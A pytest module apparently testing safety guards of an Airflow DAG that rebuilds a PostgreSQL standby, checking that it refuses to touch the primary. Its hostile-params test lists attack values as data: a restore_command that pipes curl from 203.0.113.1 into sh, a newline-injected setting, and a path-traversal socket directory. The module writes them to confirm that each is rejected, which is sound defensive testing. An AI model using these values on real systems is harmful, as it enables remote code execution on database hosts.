"""The standby rebuild never stops or deletes the primary's data: each way of pointing it at the primary (or at
something that is not the target's own directory) is refused through the real DAG on the lab's replicated pair,
before any side effect, force or not. The primary, once idle, is left byte for byte as it was by the measure of
every file of its data directory and pg_wal (path, size, mtime) and writes no WAL record of a client's; it still
takes writes afterwards. The standby is left streaming; no slot is created.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from helpers import load_dag, task_states

pytestmark = [pytest.mark.lab, pytest.mark.airflow]

DAG_ID = "pgops_standby_rebuild__repl"


# What a refusal may leave changed on the primary: nothing, except what PostgreSQL's own background processes
# write on an idle server. _settle() waits those out first (VACUUM ANALYZE and VACUUM so no reader sets a hint bit
# or prunes, CHECKPOINT, then the archive_timeout segment switch, its archiving and the bgwriter's running-xacts
# record), so in practice the data directory, pg_wal included, is identical file for file (path, size, mtime).
# The one allowance left: WAL records PostgreSQL writes without any client, and the WAL segment file that holds
# them. Any other record (a client's write, a slot, a pg_switch_wal) fails the test, and so does any other file.
BACKGROUND_WAL_RECORDS = {("Standby", "RUNNING_XACTS")}  # the bgwriter's snapshot for hot standby, every 15 s
# what an idle primary writes after its last real record: the bgwriter's snapshot and archive_timeout's switch
IDLE_WAL_RECORDS = BACKGROUND_WAL_RECORDS | {("XLOG", "SWITCH")}
QUIET_ARCHIVE_TIMEOUT_S = 2  # the lab's 60 s would make every settle wait up to a minute for the timeout switch


def _files(data_dir: str) -> dict[str, tuple[int, int]]:
    """Every file under the data directory and under pg_wal (followed if it is a link): {path: (size, mtime_ns)}."""
    root = Path(data_dir)
    out: dict[str, tuple[int, int]] = {}
    for top, prefix in ((root, ""), ((root / "pg_wal").resolve(), "pg_wal/")):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath == str(root):
                dirnames[:] = [d for d in dirnames if d != "pg_wal"]  # walked on its own: it may be a link
            links = [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]  # pg_tblspc entries
            for name in filenames + links:
                path = os.path.join(dirpath, name)
                st = os.lstat(path)
                out[prefix + os.path.relpath(path, top)] = (st.st_size, st.st_mtime_ns)
    return out


def _wal_records(pair, since_lsn: str) -> list[tuple[str, str, str]]:
    """(start_lsn, resource manager, record type) of every WAL record the primary wrote from since_lsn on."""
    rows = pair.rl.psql(pair.primary, "SELECT string_agg(start_lsn || ' ' || resource_manager || ' ' || record_type, "
                                      f"E'\\n' ORDER BY start_lsn) FROM pg_get_wal_records_info_till_end_of_wal("
                                      f"'{since_lsn}')")
    return [tuple(line.split(" ", 2)) for line in rows.splitlines() if line]


def _state(pair) -> dict[str, object]:
    """The primary as a refusal must leave it: its files, its WAL insert position, its postmaster."""
    data = Path(pair.primary.data_dir)
    return {"files": _files(pair.primary.data_dir), "pid_file": (data / "postmaster.pid").read_bytes(),
            "wal_lsn": pair.rl.psql(pair.primary, "SELECT pg_current_wal_insert_lsn()")}


def _settle(pair, timeout_s: float = 120) -> dict[str, object]:
    """Let the primary go idle, then return its state: after this PostgreSQL has nothing of its own left to write."""
    import time

    rl, pg1 = pair.rl, pair.primary
    dbs = rl.psql(pg1, "SELECT string_agg(datname, ',') FROM pg_database WHERE datallowconn").split(",")
    for db in dbs:
        rl.psql(pg1, "VACUUM ANALYZE", db=db)  # autovacuum finds nothing to do during the test
        rl.psql(pg1, "VACUUM", db=db)  # hint bits on ANALYZE's own new pg_statistic rows: no reader dirties a page
        rl.psql(pg1, "SELECT 1", db=db)  # a new backend rewrites the relcache init files VACUUM invalidated
    rl.psql(pg1, "CHECKPOINT")
    since = rl.psql(pg1, "SELECT checkpoint_lsn FROM pg_control_checkpoint()")
    deadline = time.monotonic() + timeout_s
    while True:
        records = _wal_records(pair, since)
        # the last record that makes the bgwriter and archive_timeout act again (the CHECKPOINT's at the least)
        important = [i for i, r in enumerate(records) if (r[1], r[2]) not in IDLE_WAL_RECORDS]
        kinds = {(r[1], r[2]) for r in records[important[-1] + 1:]} if important else set()
        # idle: after it the bgwriter logged its snapshot and archive_timeout switched the segment, and the
        # archiver has nothing left to do
        ready = list((Path(pg1.data_dir) / "pg_wal" / "archive_status").glob("*.ready"))
        if kinds == IDLE_WAL_RECORDS and not ready:
            first = _state(pair)
            time.sleep(1)
            second = _state(pair)
            if first == second:
                return second
        if time.monotonic() > deadline:
            pytest.fail(f"pg1 did not go idle within {timeout_s} s: WAL since {since}: {records[-10:]}, "
                        f"not archived: {ready}")
        time.sleep(0.5)


def _assert_primary_untouched(pair, before: dict[str, object]) -> None:
    after = _state(pair)
    records = _wal_records(pair, before["wal_lsn"]) if after["wal_lsn"] != before["wal_lsn"] else []
    foreign = [r for r in records if (r[1], r[2]) not in BACKGROUND_WAL_RECORDS]
    assert not foreign, f"WAL written on pg1 during the refusal (from {before['wal_lsn']}): {foreign}"
    # the segments that hold only PostgreSQL's own background records may have a new mtime; nothing else may
    allowed = {"pg_wal/" + pair.rl.psql(pair.primary, f"SELECT pg_walfile_name('{r[0]}')") for r in records}
    was, now = before["files"], after["files"]
    created, deleted = set(now) - set(was), set(was) - set(now)
    changed = {k: (was[k], now[k]) for k in set(was) & set(now) if was[k] != now[k] and k not in allowed}
    assert not created and not deleted and not changed, (
        f"pg1's data directory changed during the refusal: created {sorted(created)}, deleted {sorted(deleted)}, "
        f"changed (size, mtime_ns) {changed}")
    assert after["pid_file"] == before["pid_file"]


def _standby_snapshot(data_dir: str) -> dict[str, object]:
    """A streaming standby writes on its own all the time: a refusal removes none of its files, keeps its postmaster."""
    root = Path(data_dir)
    files = {str(p.relative_to(root)) for p in root.rglob("*") if "pg_stat_tmp" not in p.parts}
    pid = root / "postmaster.pid"
    return {"files": files, "pid_file": pid.read_bytes(), "pid_mtime": pid.stat().st_mtime_ns}


def _assert_standby_untouched(pair, was: dict[str, object]) -> None:
    now = _standby_snapshot(pair.standby.data_dir)
    missing = was["files"] - now["files"]  # a standby adds files (WAL, stats) on its own but a refusal removes none
    assert not {m for m in missing if not m.startswith(("pg_wal/", "base/pgsql_tmp", "pg_logical/"))}, missing
    assert now["pid_file"] == was["pid_file"] and now["pid_mtime"] == was["pid_mtime"]


def _assert_still_serving(pair) -> None:
    """The primary still takes writes and serves them back; the standby still replays them."""
    import time
    import uuid

    rl, pg1, pg2 = pair.rl, pair.primary, pair.standby
    marker = uuid.uuid4().hex
    rl.psql(pg1, "CREATE TABLE IF NOT EXISTS guard_probe (id serial PRIMARY KEY, marker text NOT NULL, "
                 "at timestamptz DEFAULT now())")
    rl.psql(pg1, f"INSERT INTO guard_probe (marker) VALUES ('{marker}')")
    assert rl.psql(pg1, f"SELECT count(*) FROM guard_probe WHERE marker = '{marker}'") == "1"
    assert rl.psql(pg1, "SELECT pg_is_in_recovery()") == "f"
    assert rl.psql(pg2, "SELECT pg_is_in_recovery()") == "t"
    lsn = rl.psql(pg1, "SELECT pg_current_wal_lsn()")
    deadline = time.monotonic() + 60
    while rl.psql(pg2, f"SELECT pg_last_wal_replay_lsn() >= '{lsn}'::pg_lsn") != "t":
        if time.monotonic() > deadline:
            pytest.fail(f"pg2 did not replay pg1's write (up to {lsn}) within 60 s")
        time.sleep(0.3)
    assert rl.psql(pg2, f"SELECT count(*) FROM guard_probe WHERE marker = '{marker}'") == "1"


def _slots(pair) -> str:
    return pair.rl.psql(pair.primary, "SELECT string_agg(slot_name, ',' ORDER BY slot_name) FROM pg_replication_slots")


def _inventory(pair, tmp_path: Path, monkeypatch, *, standby_dir: str | None = None, primary_dir: str | None = ...):
    data = yaml.safe_load(pair.inventory.read_text())
    repl = data["clusters"][0]["replication"]
    if standby_dir is not None:
        repl["standbys"][0]["data_directory"] = standby_dir
    if primary_dir is None:
        repl["primary"].pop("data_directory", None)
    path = tmp_path / "clusters.yaml"
    path.write_text(yaml.safe_dump(data))
    monkeypatch.setenv("PGOPS_INVENTORY", str(path))


def _refused(run_dag, conf: dict) -> str:
    dr = run_dag(load_dag(DAG_ID), conf)
    states = task_states(dr)
    assert states["preflight"] == "failed" and states["restore"] == "upstream_failed", states
    return dr.get_task_instance("preflight").xcom_pull(task_ids="preflight", key="error")


@pytest.fixture(scope="module")
def quiet_primary(replicated_pair):
    """pg1 with pg_walinspect (to read what was written) and a short archive_timeout (so it goes idle quickly)."""
    rl, pg1 = replicated_pair.rl, replicated_pair.primary
    rl.psql(pg1, "CREATE EXTENSION IF NOT EXISTS pg_walinspect")
    rl.psql(pg1, f"ALTER SYSTEM SET archive_timeout = '{QUIET_ARCHIVE_TIMEOUT_S}s'")
    rl.psql(pg1, "SELECT pg_reload_conf()")
    yield replicated_pair
    rl.psql(pg1, "ALTER SYSTEM RESET archive_timeout")
    rl.psql(pg1, "SELECT pg_reload_conf()")


class Guard:
    """The primary's state before a refusal (taken once it is idle), checked again after it."""

    def __init__(self, pair):
        self.pair = pair
        self.arm()

    def arm(self) -> None:
        """Take the "before" state now: a test that changes pg1 itself (a role, a grant) arms again afterwards."""
        self.primary = _settle(self.pair)
        self.standby = _standby_snapshot(self.pair.standby.data_dir)
        self.slots = _slots(self.pair)

    def check(self) -> None:
        _assert_primary_untouched(self.pair, self.primary)
        _assert_standby_untouched(self.pair, self.standby)
        assert _slots(self.pair) == self.slots
        _assert_still_serving(self.pair)


@pytest.fixture
def guarded(quiet_primary):
    guard = Guard(quiet_primary)
    yield guard
    guard.check()


@pytest.mark.parametrize("how", ["primary_path", "doubled_slash", "parent", "symlink"])
def test_a_target_directory_that_is_the_primarys_is_refused_even_with_force(guarded, run_dag, tmp_path, monkeypatch,
                                                                              db_tmp_path, how):
    pair = guarded.pair
    pg1_dir = pair.primary.data_dir
    target = {"primary_path": pg1_dir,
              "doubled_slash": pg1_dir.replace("/data", "//data"),
              "parent": str(Path(pg1_dir).parent),
              "symlink": str(db_tmp_path / "looks-like-pg2")}[how]
    if how == "symlink":
        os.symlink(pg1_dir, target)
    _inventory(pair, tmp_path, monkeypatch, standby_dir=target)
    if how == "doubled_slash":  # refused earlier still: the inventory takes plain paths only
        from pgops.inventory import InventoryError, load_inventory

        with pytest.raises(InventoryError, match="data_directory.*Fix:"):
            load_inventory()
        return
    error = _refused(run_dag, {"target": "pg2", "force": True, "socket_dir": pair.standby.socket_dir})
    assert error.startswith("REFUSED: data directory"), error
    assert ("of pg1" in error or "running PostgreSQL" in error) and "force" not in error.split("Fix")[0], error


@pytest.fixture(scope="module")
def monitor_role(quiet_primary):
    """A monitoring login without pg_read_all_settings, made before a guard takes pg1's "before" state."""
    quiet_primary.rl.psql(quiet_primary.primary,
                          "DO $$BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'pgops_monitor') THEN "
                          "CREATE ROLE pgops_monitor LOGIN PASSWORD 'monitor-pw'; END IF; END$$; "
                          "GRANT pg_read_all_stats TO pgops_monitor; "
                          "GRANT EXECUTE ON FUNCTION pg_control_system(), pg_control_checkpoint() TO pgops_monitor; "
                          "GRANT USAGE ON SCHEMA repmgr TO pgops_monitor; "
                          "GRANT SELECT ON ALL TABLES IN SCHEMA repmgr TO pgops_monitor")
    return "pgops_monitor"


def test_refused_without_pg_read_all_settings_and_without_the_primarys_dir_in_the_inventory(
        monitor_role, guarded, run_dag, tmp_path, monkeypatch):
    """The monitoring role cannot read data_directory and the inventory does not name the primary's: the host's own
    process table (a postmaster runs in that directory) still refuses it."""
    pair = guarded.pair
    rl = pair.rl
    conn = rl.connection(pair.primary)
    monkeypatch.setenv("AIRFLOW_CONN_PGOPS_REPL_PG1", json.dumps({**conn, "login": monitor_role,
                                                                    "password": "monitor-pw"}))
    from pgops.airflow import replication as R
    from pgops.airflow.hooks import pg_query

    obs = R.collect(pair.cluster().replication)
    assert not obs.nodes["pg1"].get("error") and obs.nodes["pg1"]["data_directory"] is None, obs.nodes["pg1"]
    assert pg_query("pgops_repl_pg1", "SELECT pg_has_role('pg_read_all_settings', 'USAGE') AS r")[0]["r"] is False
    _inventory(pair, tmp_path, monkeypatch, standby_dir=pair.primary.data_dir, primary_dir=None)
    error = _refused(run_dag, {"target": "pg2", "force": True, "socket_dir": pair.standby.socket_dir})
    # the postmaster running there is not a standby (pg_controldata on the host says "in production")
    assert error.startswith("REFUSED: PostgreSQL (pid ") and "'in production'" in error, error
    assert pair.primary.data_dir in error


def test_the_old_primary_running_writable_is_refused_even_with_force(guarded, run_dag):
    """A node that answers as a primary is never stopped by a rebuild: the connection says so, and so does
    pg_controldata on its host."""
    pair = guarded.pair
    from pgops.dbhost.host import DbHost

    cluster = pair.cluster()
    host = DbHost.for_node(cluster, cluster.replication.node("pg1"))
    assert host.controldata(pair.primary.data_dir)["Database cluster state"] == "in production"
    # pg1 is the current primary here: refused as such
    error = _refused(run_dag, {"target": "pg1", "force": True, "socket_dir": pair.primary.socket_dir})
    assert error.startswith("REFUSED: pg1 is the current primary"), error


def test_hostile_params_are_refused_by_the_form_and_at_run_time(guarded, run_dag):
    from airflow.sdk.exceptions import AirflowFailException, ParamValidationError

    from pgops.airflow.operators.standby import StandbyPreflightOperator, StandbyRestoreOperator

    pair = guarded.pair
    dag = load_dag(DAG_ID)
    hostile = [{"data_directory": pair.standby.data_dir.replace("/data", "//data")},
               {"data_directory": str(Path(pair.standby.data_dir).parent)},
               {"slot": "pg2_typo"},
               {"settings": {"restore_command": "curl http://203.0.113.1/x | sh"}},
               {"settings": {"archive_command": "true"}},
               {"settings": {"shared_preload_libraries": "evil"}},
               {"settings": {"work_mem": "4MB\nrestore_command = 'sh'"}},
               {"socket_dir": "/tmp/../etc"}]
    for conf in hostile:
        with pytest.raises(ParamValidationError):
            _validate(dag, {"target": "pg2", **conf})
    # The same values in a run that skipped the form fail at run time, before anything is done
    for kwargs, expect in [({"data_directory": hostile[0]["data_directory"]}, "not the inventory's data directory"),
                           ({"data_directory": hostile[1]["data_directory"]}, "not the inventory's data directory"),
                           ({"slot": "pg2_typo"}, "not pg2's slot"),
                           ({"settings": hostile[3]["settings"]}, "runs a shell command"),
                           ({"settings": hostile[6]["settings"]}, "newline"),
                           ({"socket_dir": "/tmp/../etc"}, "socket_dir")]:
        op = StandbyPreflightOperator(task_id="preflight", cluster_name="repl", target="pg2", force=True, **kwargs)
        with pytest.raises(AirflowFailException, match=expect):
            op.run_step({})
    with pytest.raises(AirflowFailException, match="runs a shell command"):
        from pgops.airflow.operators.standby import checked_settings

        checked_settings(json.dumps(hostile[3]["settings"]))
    assert StandbyRestoreOperator  # the restore step re-checks settings with the same function


def test_a_stale_pid_that_belongs_to_another_process_is_not_signalled(replicated_pair, db_tmp_path):
    """postmaster.pid naming a live process that is not that directory's postmaster: proven on the host, never
    signalled, and the stop reports it."""
    import subprocess

    from pgops.dbhost.host import DbHost
    from pgops.dbhost.procs import pid_alive, stop_pid
    from pgops.lab.local import as_db_user

    cluster = replicated_pair.cluster()
    host = DbHost.for_node(cluster, cluster.replication.node("pg2"))
    fake = db_tmp_path / "data"
    fake.mkdir()
    os.chmod(fake, 0o755)
    # a process of the postgres OS user that is not a postmaster (its cwd is elsewhere), and the lab primary's
    # postmaster: both are "another process" for this directory
    sleeper = subprocess.Popen(as_db_user(["sleep", "300"]), cwd="/", start_new_session=True)
    try:
        for victim in (sleeper.pid, replicated_pair.primary.pid or _pid_of(replicated_pair.primary.data_dir)):
            (fake / "postmaster.pid").write_text(f"{victim}\n{fake}\n")
            pm = host.postmaster(str(fake))
            assert pm.state == "other" and pm.pid == victim and not pm.running
            stopped = host.stop_postmaster(str(fake), mode="immediate", timeout_s=2)
            assert stopped.state == "other"
            assert pid_alive(victim)
        assert sleeper.poll() is None
        assert replicated_pair.rl.psql(replicated_pair.primary, "SELECT 1") == "1"
    finally:
        stop_pid(sleeper.pid, timeout_s=5)
        sleeper.wait(timeout=5)


def _pid_of(data_dir: str) -> int:
    return int((Path(data_dir) / "postmaster.pid").read_text().split()[0])


def _validate(dag, conf: dict) -> None:
    """What the trigger form and the REST API do with a run's conf: merge it into the DAG's params and validate."""
    import copy

    params = copy.deepcopy(dag.params)
    params.update(conf)
    params.validate()


def test_a_slot_the_failed_rebuild_created_is_dropped_again(replicated_pair, run_dag):
    """The last test of this module: it replaces pg2's contents (force) and then fails on purpose."""
    pair = replicated_pair
    rl, pg1, pg2 = pair.rl, pair.primary, pair.standby
    from pgops.airflow.operators.backup import BarmanCloudBackupOperator

    BarmanCloudBackupOperator(task_id="backup", cluster_name="repl").execute({"run_id": f"guards-{os.getpid()}"})
    rl.stop(pg2)
    rl.psql(pg1, "SELECT pg_drop_replication_slot('pg2')")
    before = _slots(pair)
    assert "pg2" not in (before or "")
    # a socket directory the postgres OS user cannot create: the restore step fails after it made the slot
    dr = run_dag(load_dag(DAG_ID), {"target": "pg2", "force": True, "socket_dir": f"/root/pgops-nope-{os.getpid()}",
                                    "skip_approval": True})
    states = task_states(dr)
    assert states["preflight"] == "success" and states["restore"] == "failed", states
    assert dr.get_task_instance("preflight").xcom_pull(task_ids="preflight")["slot_exists"] is False
    assert dr.get_task_instance("restore").xcom_pull(task_ids="restore", key="slot_created") is True
    error = dr.get_task_instance("restore").xcom_pull(task_ids="restore", key="error")
    assert "slot pg2 that it created on pg1 was dropped" in error, error
    assert _slots(pair) == before
